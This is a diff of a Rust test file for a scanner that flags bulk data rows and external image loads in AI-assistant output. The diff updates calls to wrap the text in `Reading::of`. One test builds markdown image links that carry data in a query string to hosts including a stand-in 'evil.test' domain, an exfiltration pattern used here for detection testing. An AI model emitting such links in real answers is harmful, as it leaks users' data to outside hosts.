@@ -8,7 +8,7 @@ use std::fmt::Write as _;
 const ANSWER: Context = Context { role: Role::Assistant, phase: Phase::Output };
 
 fn judge(text: &str) -> Report {
-    scan(text, &Limits::default(), ANSWER)
+    scan(&Reading::of(text), &Limits::default(), ANSWER)
 }
 
 fn kinds(text: &str) -> Vec<&'static str> {
@@ -215,7 +215,7 @@ fn more_rows_than_the_limit_are_bulk_in_every_form() {
         assert_eq!(kinds(&rows(120, form)), ["BULK_ROWS"], "{}", form(1));
         assert!(kinds(&rows(60, form)).is_empty(), "{}", form(1));
         let strict = Limits { max_rows: 50, ..Limits::default() };
-        assert_eq!(scan(&rows(60, form), &strict, ANSWER).kind, Some("bulk_data"));
+        assert_eq!(scan(&Reading::of(&rows(60, form)), &strict, ANSWER).kind, Some("bulk_data"));
     }
     assert!(kinds(&rows(300, |at| format!("Then, after day {at}, we went on, as planned, and rested."))).is_empty());
 }
@@ -241,7 +241,7 @@ fn allowed_hosts_and_their_subdomains_may_be_loaded_from() {
         ("charts.example.evil.test", true),
     ] {
         let text = format!("![c](https://{host}/c?d={data})");
-        assert_eq!(!scan(&text, &limits, ANSWER).hits.is_empty(), is_found, "{host}");
+        assert_eq!(!scan(&Reading::of(&text), &limits, ANSWER).hits.is_empty(), is_found, "{host}");
     }
 }
 
@@ -314,7 +314,7 @@ fn a_stream_tells_what_loads_before_it_is_whole() {
 }
 
 fn code_points_of(text: &str, limits: &Limits) -> Vec<(usize, &'static str, usize)> {
-    let hits = scan(text, limits, ANSWER).hits;
+    let hits = scan(&Reading::of(text), limits, ANSWER).hits;
     hits.iter().map(|hit| (text[..hit.start].chars().count(), hit.kind, text[..hit.end].chars().count())).collect()
 }
 
